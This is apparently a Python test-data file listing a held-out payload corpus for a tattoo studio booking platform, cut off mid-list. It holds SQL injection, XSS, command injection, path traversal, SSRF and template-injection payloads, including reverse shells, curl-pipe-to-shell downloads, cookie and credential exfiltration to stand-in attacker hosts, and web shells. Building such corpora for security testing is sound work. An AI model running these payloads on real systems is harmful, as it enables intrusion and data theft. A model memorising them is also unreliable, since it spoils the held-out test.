#!/usr/bin/env python3
"""Attack corpus for the tattoo/piercing studio booking platform (held out).

Every value is hand-written. A small share (see TEMPLATED) joins a hand-written
theme prefix to a hand-written payload or applies ONE URL encoding to a
hand-written payload; nothing else is computed.
"""
import json
import os
import random
from urllib.parse import quote

SEED = 13802
PREFIX = "had8"
rng = random.Random(SEED)

# (class, value) -- all literals
SQLI = [
    ("note-union-select", "Koi sleeve ref' UNION SELECT username,password_hash FROM users-- -"),
    ("plain-boolean", "' OR '1'='1"),
    ("plain-numeric-or", "1 OR 1=1"),
    ("deposit-number-union", "80 UNION ALL SELECT NULL,card_last4,email FROM payments--"),
    ("flash-id-union-null", "17 UNION SELECT NULL,NULL,concat(email,0x3a,phone) FROM clients-- -"),
    ("search-mysql-sleep", "peony' AND SLEEP(5)-- "),
    ("search-mysql-benchmark", "rose' AND BENCHMARK(5000000,MD5('x'))#"),
    ("artist-pg-sleep-stacked", "Dima'; SELECT pg_sleep(10)--"),
    ("booking-id-mssql-waitfor", "4821; WAITFOR DELAY '0:0:7'--"),
    ("caption-oracle-dbms-pipe", "healed koi' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',8)--"),
    ("search-sqlite-randomblob", "moth' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("note-mysql-extractvalue", "sternum mandala' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -"),
    ("flash-mysql-updatexml", "flash' AND updatexml(null,concat(0x3a,(select user())),null)#"),
    ("artist-mssql-convert-error", "Rosa' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("placement-pg-cast-error", "inner forearm' AND 1=CAST((SELECT current_user) AS int)--"),
    ("note-stacked-drop", "see you saturday!'; DROP TABLE bookings;--"),
    ("chat-stacked-insert", "thanks'; INSERT INTO staff(email,role) VALUES('x@attacker.example','admin');--"),
    ("booking-id-stacked-update", "4821; UPDATE users SET role='admin' WHERE email='me@attacker.example'--"),
    ("stencil-mssql-xp-cmdshell", "koi_v3.png'; EXEC master..xp_cmdshell 'ping 203.0.113.9';--"),
    ("caption-mysql-into-outfile", "fresh' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("search-mysql-load-file", "dagger' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("note-pg-copy-program", "allergy: latex'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("artist-oracle-utl-http", "Maya' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("stencil-mssql-xp-dirtree-oob", "rose.png'; EXEC master..xp_dirtree '\\\\203.0.113.7\\share';--"),
    ("search-comment-as-space", "koi'/**/UNION/**/SELECT/**/email,password/**/FROM/**/clients#"),
    ("flash-mysql-versioned-comment", "swallow' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(email) FROM clients-- -"),
    ("caption-case-mixing", "blackwork' uNiOn SeLeCt null,table_name FrOm information_schema.tables-- -"),
    ("sort-order-by-probe", "price' ORDER BY 10--+"),
    ("sort-case-when-blind", "(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN price ELSE artist END)"),
    ("search-substring-blind", "mandala' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='$'--"),
    ("artist-id-ascii-blind", "3 AND ASCII(SUBSTR((SELECT email FROM admins LIMIT 1),1,1))>100"),
    ("plain-having", "' HAVING 1=1--"),
    ("note-group-by-having", "deposit paid' GROUP BY bookings.id HAVING 1=1--"),
    ("search-like-wildcard", "x' OR client_name LIKE '%'--"),
    ("plain-double-quote-or", "\" OR \"\"=\""),
    ("name-backslash-escape-bypass", "O\\' OR 1=1-- -"),
    ("login-mysql-hash-comment", "admin'#"),
    ("plain-auth-bypass-comment", "admin'--"),
    ("search-oracle-union-dual", "koi' UNION SELECT banner,NULL FROM v$version--"),
    ("flash-sqlite-master", "moth' UNION SELECT name,sql FROM sqlite_master--"),
    ("artist-pg-string-agg", "Jay' UNION SELECT string_agg(usename,','),NULL FROM pg_user--"),
    ("search-mssql-concat-logins", "rose' UNION SELECT name+':'+CONVERT(varchar(max),password_hash,1),NULL FROM sys.sql_logins--"),
    ("flash-hex-literal", "anchor' UNION SELECT 0x61646d696e,2-- -"),
    ("login-char-function", "x' OR username=CHAR(97,100,109,105,110)--"),
    ("booking-id-pg-case-sleep", "4821;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("booking-id-mssql-if-waitfor", "4821; IF (SELECT COUNT(*) FROM users)>0 WAITFOR DELAY '0:0:5'--"),
    ("size-mysql-if-sleep", "12 AND IF(1=1,SLEEP(4),0)"),
    ("filter-pg-json-operator", "fine-line' OR data->>'role'='admin'--"),
    ("note-newline-separated", "healed well'\nUNION\nSELECT\npassword,2\nFROM\nusers-- -"),
    ("search-tab-separated", "koi'\tOR\t1=1--\t"),
    ("flash-id-float-union", "-1.0UNION SELECT user(),2-- -"),
    ("caption-oracle-xmltype-oob", "koi' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/\"> %x;]>'),'/l') FROM dual) IS NOT NULL--"),
    ("review-insert-subquery", "Great artist!', (SELECT password FROM users LIMIT 1))-- -"),
    ("bio-update-set-role", "Tattooing since 2011', role='admin' WHERE id=1-- -"),
    ("flash-id-mysql-procedure-analyse", "17 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("note-h2-create-alias", "ok'; CREATE ALIAS EXEC AS 'String e(String c) throws Exception{Runtime.getRuntime().exec(c);return c;}'; CALL EXEC('id');--"),
    ("stencil-mssql-openrowset", "wolf.jpg'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.5;uid=sa;pwd=x','select 1');--"),
    ("note-pg-lo-import", "touch-up'; SELECT lo_import('/etc/passwd');--"),
    ("flash-id-information-schema", "0 UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='payments'"),
    ("search-db2-syscat", "rose' UNION SELECT tabname,NULL FROM syscat.tables--"),
    ("artist-mssql-version", "Dima' UNION SELECT DB_NAME(),@@version--"),
    ("date-field-boolean", "2024-06-14' AND '1'='1' UNION SELECT null,api_key FROM integrations-- -"),
    ("price-number-or-subquery", "120 OR (SELECT COUNT(*) FROM payments)>0"),
    ("gauge-pg-stacked-role", "16g'; ALTER USER app WITH SUPERUSER;--"),
    ("plain-or+urlencode", "%27%20OR%201%3D1--%20"),
    ("search-union+double-urlencode", "koi%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
    ("flash-boolean+fullwidth", "koi＇ OR 1=1-- -"),
    ("search-boolean+unicode-escape", "rose\\u0027 OR 1=1-- -"),
    ("plain-mysql-bool-pipes", "' || 1#"),
    ("note-sqlite-load-extension", "x'; SELECT load_extension('/tmp/evil.so');--"),
]

XSS = [
    ("plain-script-tag", "<script>alert(document.domain)</script>"),
    ("caption-img-onerror", "Fresh koi 🐟 <img src=x onerror=alert(1)>"),
    ("caption-svg-onload-exfil", "Healed 1yr <svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("bio-svg-tagged-template", "Artist since 2015 <svg/onload=alert`1`>"),
    ("chat-body-onpageshow", "see u at 2 <body onpageshow=alert(1)>"),
    ("flash-details-ontoggle", "Flash #12 moth <details open ontoggle=alert(1)>"),
    ("note-iframe-javascript", "ref pics: <iframe src=\"javascript:alert(document.cookie)\"></iframe>"),
    ("caption-a-href-tab-split", "<a href=\"jav&#x09;ascript:alert(1)\">see healed pic</a>"),
    ("bio-javascript-href+decimal-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">portfolio</a>"),
    ("name-attr-breakout-dq", "Ana\" onmouseover=\"alert(1)"),
    ("name-attr-breakout-sq", "O' autofocus onfocus='alert(1)"),
    ("caption-attr-breakout-script-src", "koi\"><script src=https://attacker.example/x.js></script>"),
    ("note-textarea-breakout", "aftercare q</textarea><script>alert(1)</script>"),
    ("title-breakout", "Flash sheet</title><svg onload=alert(1)>"),
    ("bio-mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("caption-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("chat-input-autofocus", "hey <input onfocus=alert(1) autofocus>"),
    ("caption-video-source-onerror", "timelapse <video><source onerror=alert(1)></video>"),
    ("caption-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("bio-object-data-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("note-embed-javascript", "<embed src=\"javascript:alert(1)\">"),
    ("pricing-form-action", "Deposit $80 <form action=javascript:alert(1)><button>Pay deposit</button></form>"),
    ("caption-eval-atob", "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    ("caption-js-unicode-escape-ident", "<img src=x onerror=\\u0061lert(1)>"),
    ("caption-img-onerror+hex-entities", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>"),
    ("plain-case-mixed-script", "<ScRiPt>alert(1)</sCrIpT>"),
    ("caption-svg-animate-onbegin", "Moon phases 🌙 <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("bio-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Book now</text></a></svg>"),
    ("caption-onanimationstart", "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>"),
    ("flash-marquee-onstart", "Flash sale! <marquee onstart=alert(1)>50% off</marquee>"),
    ("bio-meta-refresh-phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("bio-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("caption-cookie-beacon", "<img src=\"x\" onerror=\"this.src='https://attacker.example/?c='+document.cookie\">"),
    ("chat-onpointerover", "<div onpointerover=\"alert(1)\">hover for the design</div>"),
    ("note-contenteditable-onblur", "<x contenteditable onblur=alert(1)>click and type your size</x>"),
    ("chat-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("bio-iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;\"></iframe>"),
    ("js-string-breakout-sq", "Biscuit';alert(document.cookie);//"),
    ("js-string-breakout-dq", "Luna\";fetch('https://attacker.example/?'+localStorage.token);//"),
    ("js-script-block-breakout", "koi</script><script>alert(1)</script>"),
    ("markdown-javascript-link", "[healed photo](javascript:alert(document.cookie))"),
    ("markdown-img-attr-breakout", "![koi](x\" onerror=\"alert(1))"),
    ("caption-angularjs-csti", "Healed {{constructor.constructor('alert(1)')()}}"),
    ("chat-vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("plain-script+urlencode", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("search-svg-onload+double-urlencode", "koi%253Csvg%2520onload%253Dalert(1)%253E"),
    ("caption-script+fullwidth", "＜script＞alert(1)＜/script＞"),
    ("search-script+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("search-script+percent-u", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("note-img-onerror+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("bio-svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("caption-string-concat-call", "<img src=1 onerror=window['al'+'ert'](1)>"),
    ("caption-regex-source", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("chat-settimeout-string", "<svg onload=setTimeout('al'+'ert(1)')>"),
    ("bio-dynamic-import", "<img src=x:x onerror=import('//attacker.example/m.js')>"),
    ("bio-script-src-protocol-relative", "<script src=//attacker.example/k.js></script>"),
    ("caption-location-exfil", "<img src=x onerror=location='//attacker.example/?'+document.cookie>"),
    ("bio-popover-onbeforetoggle", "<button popovertarget=x>See flash</button><div popover id=x onbeforetoggle=alert(1)>"),
    ("bio-accesskey-hidden", "<input type=hidden accesskey=X onclick=alert(1)>"),
    ("caption-unclosed-img", "<img src=x onerror=alert(1)//"),
    ("bio-colon-entity", "<a href=\"javascript&colon;alert(1)\">my portfolio</a>"),
    ("bio-leading-space-scheme", "<a href=\" javascript:alert(1)\">book me</a>"),
    ("bio-case-scheme", "<a href=\"JaVaScRiPt:alert(1)\">aftercare sheet</a>"),
    ("bio-phishing-overlay", "<iframe src=\"https://attacker.example/login-clone\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>"),
    ("flash-svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>"),
    ("chat-img-src-newline-handler", "<img src=x\nonerror=alert(1)>"),
    ("caption-slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("note-style-expression-import", "<style>@import 'https://attacker.example/steal.css';</style>"),
]

CMDI = [
    ("stencil-semicolon-id", "stencil_koi.png; id"),
    ("stencil-and-curl-sh", "rose.jpg && curl -s http://attacker.example/s.sh | sh"),
    ("stencil-pipe-nc", "peony.png | nc 203.0.113.8 4444 -e /bin/sh"),
    ("plain-dollar-subst", "$(curl http://attacker.example/$(whoami))"),
    ("plain-backtick-subst", "`cat /etc/passwd`"),
    ("stencil-newline-wget", "koi.png\nwget -qO- http://198.51.100.4/x|bash"),
    ("stencil-bash-devtcp", "moth.png; bash -i >& /dev/tcp/203.0.113.10/443 0>&1"),
    ("stencil-or-ping-timing", "wolf.jpg || ping -c 10 127.0.0.1"),
    ("win-stencil-amp-ping", "rose.png & ping -n 10 127.0.0.1 &"),
    ("win-stencil-powershell-iex", "koi.png | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("win-stencil-certutil", "dagger.png & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("win-stencil-type-winini", "flash.pdf | type C:\\Windows\\win.ini"),
    ("win-stencil-whoami", "mandala.svg & whoami /all"),
    ("stencil-subst-sleep", "koi_$(sleep 7).png"),
    ("stencil-ifs-sleep", "koi.png;sleep${IFS}7"),
    ("stencil-ifs-cat", "koi.png;cat${IFS}/etc/shadow"),
    ("stencil-brace-expansion", "koi.png;{cat,/etc/passwd}"),
    ("stencil-quote-splitting", "koi.png;c'a't /e\"t\"c/pas's'wd"),
    ("stencil-glob-wildcards", "koi.png;/???/c?t /???/p??s??"),
    ("stencil-printf-hex", "koi.png;$(printf '\\x69\\x64')"),
    ("stencil-base64-pipe-sh", "koi.png;echo aWQ= | base64 -d | sh"),
    ("stencil-python-revshell", "koi.png; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.10\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("stencil-perl-system", "koi.png; perl -e 'system(\"id\")'"),
    ("stencil-php-r", "koi.png; php -r 'system(\"id\");'"),
    ("stencil-mkfifo-nc", "koi.png; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.10 4242 >/tmp/f"),
    ("argument-injection-curl-output", "-o /var/www/html/x.php http://attacker.example/x.php"),
    ("argument-injection-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument-injection-find-exec", "stencils -exec sh -c 'curl attacker.example|sh' ;"),
    ("argument-injection-zip-TT", "-T -TT 'sh -c id #'"),
    ("argument-injection-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("argument-injection-git-ext", "ext::sh -c touch% /tmp/pwned"),
    ("argument-injection-ssh-proxycommand", "-oProxyCommand=curl attacker.example|sh"),
    ("argument-injection-wget-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("argument-injection-rsync-e", "-e 'sh -c id' studio-backup:/stencils"),
    ("imagemagick-mvg-delegate", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/i)'\npop graphic-context"),
    ("argument-injection-sendmail-X", "client@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("win-powershell-encoded", "koi.png & powershell -enc dwBoAG8AYQBtAGkA"),
    ("plain-encoded-newline-cat", "%0a/bin/cat%20/etc/passwd"),
    ("win-net-user-add", "koi.png | net user hacker P@ss1 /add"),
    ("stencil-dq-breakout", "koi.png\"; id; echo \""),
    ("stencil-sq-breakout", "koi.png'; id; echo '"),
    ("stencil-devtcp-exfil", "koi.png$(id>/dev/tcp/203.0.113.3/80)"),
    ("stencil-ifs-comma-var", "koi.png;IFS=,;c=curl,attacker.example/x;$c|sh"),
    ("stencil-path-substring", "koi.png;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("stencil-dns-exfil", "koi.png; nslookup $(whoami).attacker.example"),
    ("stencil-curl-post-file", "koi.png | curl -d @/etc/passwd https://attacker.example/"),
    ("stencil-env-exfil", "koi.png; env | curl -X POST --data-binary @- http://attacker.example/env"),
    ("stencil-crontab-persist", "koi.png; (crontab -l; echo '* * * * * curl attacker.example|sh') | crontab -"),
    ("stencil-authorized-keys", "koi.png; echo 'ssh-ed25519 AAAAC3NzaFAKEFAKEFAKE attacker' >> ~/.ssh/authorized_keys"),
    ("win-ps-invoke-webrequest", "koi.png; Invoke-WebRequest -Uri http://attacker.example/x -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"),
    ("win-ps-get-content", "koi.png; Get-Content C:\\inetpub\\wwwroot\\web.config"),
    ("win-mshta", "koi.png & mshta http://attacker.example/run.hta"),
    ("win-regsvr32-squiblydoo", "koi.png & regsvr32 /s /n /u /i:http://attacker.example/file.sct scrobj.dll"),
    ("win-bitsadmin", "koi.png && bitsadmin /transfer j /download http://attacker.example/a.exe C:\\Users\\Public\\a.exe"),
    ("win-caret-obfuscation", "koi.png & w^h^o^a^m^i"),
    ("win-env-substring", "koi.png & %COMSPEC:~-7,3% /c whoami"),
    ("stencil-newline-id+urlencode", "koi.png%0Aid"),
    ("stencil-semicolon-curl+urlencode", "koi.png%3Bcurl%20attacker.example%7Csh"),
    ("stencil-reverse-string", "koi.png;$(rev<<<'di')"),
    ("stencil-xargs", "koi.png; echo /etc/passwd | xargs cat"),
    ("stencil-busybox-telnetd", "koi.png; busybox telnetd -l /bin/sh -p 9999"),
    ("stencil-awk-system", "koi.png; awk 'BEGIN{system(\"id\")}'"),
    ("stencil-tee-webshell", "koi.png; echo '<?php system($_GET[0]);?>' | tee /var/www/html/k.php"),
]

TRAVERSAL = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("stencil-dir-prefix", "stencils/../../../../etc/shadow"),
    ("win-backslash", "..\\..\\..\\windows\\win.ini"),
    ("stencil-dotdot+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("stencil-dotdot+double-urlencode", "%252e%252e%252fetc%252fpasswd"),
    ("stencil-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("win-dotdot+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("win-dotdot+percent-u", "%u002e%u002e%u005c%u002e%u002e%u005cwindows%u005cwin.ini"),
    ("strip-once-bypass", "....//....//....//etc/passwd"),
    ("strip-once-bypass-dot", "..././..././..././etc/passwd"),
    ("absolute-with-dotdot", "/var/www/html/uploads/../../../../etc/passwd"),
    ("plain-absolute-path", "/etc/passwd"),
    ("win-absolute-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("unc-path-ntlm", "\\\\203.0.113.12\\share\\koi.png"),
    ("proc-environ", "../../../../proc/self/environ"),
    ("proc-cmdline", "portfolio/../../../../proc/self/cmdline"),
    ("dotenv", "flash/../../.env"),
    ("rails-database-yml", "stencils/2024/../../../config/database.yml"),
    ("java-web-inf", "../WEB-INF/web.xml"),
    ("tomcat-semicolon", "/stencils/..;/WEB-INF/web.xml"),
    ("null-byte-extension", "../../../../etc/passwd%00.png"),
    ("stencil-name-then-dotdot", "koi.png/../../../../../etc/hosts"),
    ("php-filter-base64", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-filter-rot13", "php://filter/read=string.rot13/resource=index.php"),
    ("php-zip-wrapper", "zip://uploads/stencil.zip%23shell.php"),
    ("proc-fd", "/proc/self/fd/3"),
    ("log-poisoning-target", "../../../../var/log/nginx/access.log"),
    ("win-encoded-backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("win-double-encoded-backslash", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("mixed-encoded-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("half-encoded-dot", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("encoded-slash-only", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("dotdot+fullwidth", "..／..／..／..／etc／passwd"),
    ("backslash-slash-mix", "..\\/..\\/..\\/etc/passwd"),
    ("leading-slash-double-encode", "/static/..%252f..%252f..%252fetc/passwd"),
    ("win-strip-once-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("ssh-private-key", "../../../../../../root/.ssh/id_rsa"),
    ("aws-credentials", "portfolio/img/../../../../home/app/.aws/credentials"),
    ("win-forward-slash-webconfig", "C:/inetpub/wwwroot/web.config"),
    ("win-boot-ini", "../../../../../boot.ini"),
    ("stencil-dated-dir", "stencils/2024/06/../../../../etc/passwd"),
    ("win-encoded-webconfig", "%2e%2e%5c%2e%2e%5cweb.config"),
    ("overlong-3byte-slash", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
]

SSRF = [
    ("aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("azure-imds-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("imds-decimal-ip", "http://2852039166/latest/meta-data/?ref=koi_sleeve.png"),
    ("imds-hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("imds-octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("imds-two-part-ip", "http://169.254.43518/latest/user-data"),
    ("imds-ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("redis-http", "http://127.0.0.1:6379/"),
    ("gopher-redis-flushall", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn%2A%20%2A%20%2A%20%2A%20%2A%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2F%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("file-scheme-passwd", "file:///etc/passwd"),
    ("file-scheme-windows", "file:///c:/windows/win.ini"),
    ("spring-actuator", "http://localhost:8080/actuator/env#stencil_rose.png"),
    ("loopback-short-form", "http://127.1/admin"),
    ("loopback-zero", "http://0/admin/bookings/export"),
    ("elasticsearch-any-addr", "http://0.0.0.0:9200/_cat/indices"),
    ("ipv6-unspecified", "http://[::]:80/server-status"),
    ("ipv6-mapped-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]/admin"),
    ("loopback-decimal", "http://2130706433/admin"),
    ("loopback-octal", "http://017700000001/admin"),
    ("loopback-hex-dotted", "http://0x7f.0x0.0x0.0x1/admin"),
    ("userinfo-confusion", "http://cdn.studio.example@127.0.0.1/admin"),
    ("backslash-parser-confusion", "http://127.0.0.1\\@cdn.studio.example/ref.png"),
    ("fragment-parser-confusion", "http://127.0.0.1:8080#@cdn.studio.example/flash.png"),
    ("dns-rebinding-host", "http://rebind.attacker.example/latest/meta-data/"),
    ("wildcard-dns-loopback", "http://127-0-0-1.attacker.example:8080/admin"),
    ("k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("consul-kv", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("docker-api-rfc1918", "http://10.0.0.5:2375/containers/json"),
    ("router-rfc1918", "http://192.168.1.1/cgi-bin/luci"),
    ("kubelet-pods", "https://172.17.0.1:10250/pods"),
    ("internal-service-name", "http://internal-billing.svc.cluster.local/api/refund?all=true"),
    ("open-redirect-to-imds", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/stencil.png"),
    ("java-netdoc", "netdoc:///etc/passwd"),
    ("ldap-scheme-internal", "ldap://127.0.0.1:389/dc=studio,dc=example"),
    ("tftp-scheme", "tftp://203.0.113.20/koi_v3.png"),
    ("enclosed-alnum-loopback", "http://①②⑦.⓪.⓪.①/admin"),
    ("ideographic-dot-loopback", "http://127。0。0。1/admin"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("ecs-task-creds", "http://169.254.170.2/v2/credentials/"),
]

CODE = [
    ("brief-jinja2-cycler-popen", "Design brief: {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("caption-jinja2-templatereference", "Healed koi {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("caption-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-jinja2-subclasses", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("aftercare-jinja2-lipsum", "Hi {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}, wash twice a day"),
    ("brief-jinja2-config-leak", "Ref: {{ config.items() }}"),
    ("note-jinja2-for-warning", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"),
    ("brief-jinja2-attr-hex-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("caption-twig-filter-system", "Flash #12 {{['id']|filter('system')}}"),
    ("caption-twig1-undefined-filter", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("caption-twig-map-passthru", "{{['cat /etc/passwd']|map('passthru')|join}}"),
    ("brief-freemarker-assign-execute", "Koi back piece <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("brief-freemarker-inline-new", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("caption-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("stencil-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("note-spel-hash", "Allergies: none #{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("note-spel-getenv", "${T(java.lang.System).getenv()}"),
    ("note-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("note-ognl-struts-memberaccess", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("caption-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("brief-mako-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("brief-mako-module-cache", "Sleeve plan ${self.module.cache.util.os.system('id')}"),
    ("caption-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("caption-erb-backtick", "Fresh from today! <%= `id` %>"),
    ("caption-erb-system", "<%= system('cat /etc/passwd') %>"),
    ("bio-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("caption-nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("caption-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("aftercare-ejs-execsync", "Day 3: <%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("caption-lodash-template-es", "${global.process.mainModule.constructor._load('child_process').execSync('id')}"),
    ("caption-smarty-function", "Flash sheet {system('id')}"),
    ("bio-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("plain-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("chat-log4shell-lower", "hey! ${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("ua-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.15/o}"),
    ("note-log4shell-dns-env", "Allergy: latex ${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("name-log4shell-env-nan", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
